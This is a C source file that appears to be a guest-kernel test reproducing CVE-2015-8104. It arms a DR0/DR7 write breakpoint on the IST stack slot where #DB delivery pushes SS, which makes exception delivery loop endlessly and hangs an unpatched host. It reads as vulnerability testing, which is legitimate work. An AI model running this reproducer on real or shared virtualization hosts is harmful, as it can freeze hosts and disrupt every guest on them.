/*
 * The endless #DB delivery (CVE-2015-8104).
 *
 * DR0 watches the slot where delivering #DB stores SS. Data breakpoints are traps: the store completes, the whole
 * frame is pushed, and then, before the handler's first instruction, the next #DB is due. Its gate names an IST stack,
 * so delivery starts from the same address again, stores SS to the watched slot again, and so on. Delivery does not
 * clear DR7's enable bits (only GD), and #DB may follow #DB (no double fault).
 * A debug trap has priority over interrupts, so none gets in, not even one meant for the monitor: the host hangs too.
 * The monitor's remedy is to intercept #DB (exception bitmap bit 1).
 * A machine that does not check the CPU's own stores (QEMU's TCG) runs on and says so (exit code 1 or 2).
 */
#include "cpu.h"
#include "descriptors.h"
#include "runtime.h"
#include "traps.h"

enum { DR7_FIXED = 1 << 10, DR7_G0 = 1 << 1, DR7_RW0_WRITE = 1 << 16, DR7_LEN0_8 = 2 << 18 };

static _Alignas(16) uint64_t stack[512];
static uint64_t *const ss_slot = &stack[511]; /* the first push below the IST's top */

static void on_db(struct frame *f) {
  write_dr7(DR7_FIXED);
  print("loop: the handler was reached (dr6 0x%lx, rip 0x%lx)\n", read_dr6(), f->rip);
  exit(1);
}

int main(void) {
  gdt_load();
  traps_init();
  trap_handler[DB] = on_db;
  tss.ist[0] = (uint64_t)&stack[512];
  gate_set(DB, trap_stub[DB], 0, 1);

  print("loop: a store to the watched slot starts the endless #DB\n");
  write_dr0((uint64_t)ss_slot);
  write_dr7(DR7_FIXED | DR7_G0 | DR7_RW0_WRITE | DR7_LEN0_8);
  *(volatile uint64_t *)ss_slot = 0;

  write_dr7(DR7_FIXED);
  print("loop: execution went on after the store, no endless #DB here\n");
  return 2;
}
